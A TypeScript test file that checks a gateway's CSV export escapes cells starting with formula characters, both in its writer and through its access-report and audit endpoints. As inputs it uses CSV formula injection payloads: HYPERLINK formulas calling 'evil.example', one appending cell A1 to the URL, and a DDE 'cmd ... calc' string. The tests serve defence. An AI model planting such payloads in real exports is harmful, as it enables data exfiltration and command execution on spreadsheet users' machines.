/**
 * CSV formula injection: a cell a spreadsheet would run as a formula (it starts with `=`, `+`,
 * `-`, `@`, a tab or a carriage return) is written as text, in every CSV the gateway serves.
 * The writer is tested on its own, then through HTTP with values a caller controls.
 */
import t from 'tap'
import { csvCell, toCsv } from '../../../src/domain/wire/csv.js'
import { accessReportCsv } from '../../../src/domain/questions/access-report.js'
import { buildTestApp } from '../../helpers/app.js'
import { ev } from '../../helpers/events.js'

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r']

/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"' && cell === '') quoted = true
    else if (ch === ',') {
      row.push(cell)
      cell = ''
    } else if (ch === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
    } else cell += ch
  }
  if (cell !== '' || row.length) {
    row.push(cell)
    rows.push(row)
  }
  return rows
}

/** what a spreadsheet would run: any cell that still starts with a formula character */
const formulas = (rows: string[][]) => rows.flat().filter((c) => DANGEROUS.some((d) => c.startsWith(d)))

t.test('csvCell: each formula prefix becomes text, quoted; plain cells stay as they are', async (t) => {
  for (const d of DANGEROUS) {
    const value = `${d}HYPERLINK("http://evil.example","x")`
    const cell = csvCell(value)
    t.equal(cell, `"'${value.replace(/"/g, '""')}"`, `${JSON.stringify(d)}: a leading quote mark, the cell quoted`)
    t.same(parseCsv(cell + '\n'), [[`'${value}`]], `${JSON.stringify(d)}: reads back as text`)
  }
  t.equal(csvCell('evt-1'), 'evt-1', 'a dash inside is no formula')
  t.equal(csvCell('user:rob'), 'user:rob')
  t.equal(csvCell(''), '')
  t.equal(csvCell('a,b'), '"a,b"', 'a comma is quoted')
  t.equal(csvCell('say "hi"'), '"say ""hi"""', 'quotes are doubled')
  t.equal(csvCell('two\nlines'), '"two\nlines"')
  t.equal(csvCell('cr\rinside'), '"cr\rinside"')
  t.equal(
    toCsv([
      ['a', '=1+1'],
      ['b,c', ''],
    ]),
    `a,"'=1+1"\n"b,c",\n`,
    'rows joined by \\n, one after the last',
  )
})

t.test('the access report CSV goes through the one writer', async (t) => {
  // Through HTTP no caller value can start a cell here (subjects and paths start with a type
  // name, which starts with a letter), so the writer is asked with such values directly.
  const csv = accessReportCsv({
    resource: 'client:c1',
    permission: 'view',
    subjectType: 'user',
    subjects: DANGEROUS.map((d) => ({ subject: `${d}cmd|' /C calc'!A0`, permissionship: 'has_permission', via: [[`${d}step`, 'x']] })),
    reportedAt: 't',
  })
  t.same(formulas(parseCsv(csv)), [], 'no cell starts a formula')
  t.equal(parseCsv(csv).length, 1 + DANGEROUS.length)
})

t.test('through HTTP: access-report cells with ids a caller chose read back as written', async (t) => {
  const app = await buildTestApp(t)
  // the id grammar allows `=`, `+` and `-` anywhere, even first: such ids must not corrupt the CSV
  const ids = ['=HYPERLINK', '+cmd', '-2+3', 'a|b=c']
  const updates = ids.map((id) => ({ operation: 'touch', relationship: `user:=u1#manager@user:${id}` }))
  const written = await app.inject({ method: 'POST', url: '/v1/relationships', payload: { updates } })
  t.equal(written.statusCode, 200, written.body)
  const res = await app.inject({ method: 'GET', url: '/v1/access-report?resource=user:=u1&permission=view_learning_stats&format=csv' })
  t.equal(res.statusCode, 200, res.body)
  const rows = parseCsv(res.body)
  t.same(formulas(rows), [], 'no cell starts a formula')
  for (const id of ids)
    t.ok(
      rows.some((r) => r[0] === `user:${id}`),
      `user:${id} listed as it is`,
    )
})

t.test('through HTTP: an event id, and a key name, that start a formula land in GET /v1/audit?format=csv as text', async (t) => {
  const KEY = 'csv-platform-key-0123456789abcdef'
  const app = await buildTestApp(t, { overrides: { apiKeys: [`-ops:${KEY}`] } })
  const headers = { authorization: `Bearer ${KEY}` }
  const seed = await app.inject({
    method: 'POST',
    url: '/v1/events',
    headers,
    payload: ev('organization.created', { organizationId: 'acme', ownerId: 'olga' }),
  })
  t.equal(seed.statusCode, 200, seed.body)
  const ids = DANGEROUS.map((d) => `${d}HYPERLINK("http://evil.example/?"&A1,"open"),x`)
  for (const [i, id] of ids.entries()) {
    const event = { ...ev('organization.member_added', { organizationId: 'acme', userId: `u${i}`, role: 'coach' }), id }
    const res = await app.inject({ method: 'POST', url: '/v1/events', headers, payload: event })
    t.equal(res.statusCode, 200, `event ${JSON.stringify(id)} applied: ${res.body}`)
  }
  const res = await app.inject({ method: 'GET', url: '/v1/audit?object=organization:acme&format=csv&limit=1000', headers })
  t.equal(res.statusCode, 200)
  t.match(res.headers['content-type'], /text\/csv/)
  const rows = parseCsv(res.body)
  t.same(rows[0], ['id', 'at', 'key', 'source', 'event_id', 'event_type', 'actor', 'operation', 'relationship', 'zedtoken'])
  t.same(formulas(rows), [], 'no cell starts a formula')
  for (const id of ids)
    t.ok(
      rows.some((r) => r[4] === `'${id}`),
      `event id ${JSON.stringify(id)} is text, whole in its column`,
    )
  t.ok(
    rows.slice(1).every((r) => r.length === 10 && r[2] === "'-ops"),
    'every row has its ten columns, the key name as text',
  )
})
